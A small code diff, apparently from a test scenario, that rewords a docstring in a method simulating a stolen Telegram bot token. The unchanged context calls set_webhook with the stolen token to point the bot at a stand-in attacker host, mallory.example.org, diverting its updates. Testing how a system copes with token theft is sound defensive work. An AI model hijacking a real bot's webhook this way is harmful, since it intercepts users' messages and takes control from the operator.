@@ -80,7 +80,7 @@ class Trouble:
         await does("upgrade")
 
     async def _somebody_else_holds_the_token(self) -> None:
-        """Let updates go to a thief until the operator has looked; what is typed meanwhile is not answered."""
+        """Let updates go to a thief until the operator has looked; what is typed meanwhile has no answer."""
         telegram = self._scene.telegram
         async with make_bot(telegram.token, telegram.url) as thief:
             await thief.set_webhook("https://mallory.example.org/in")
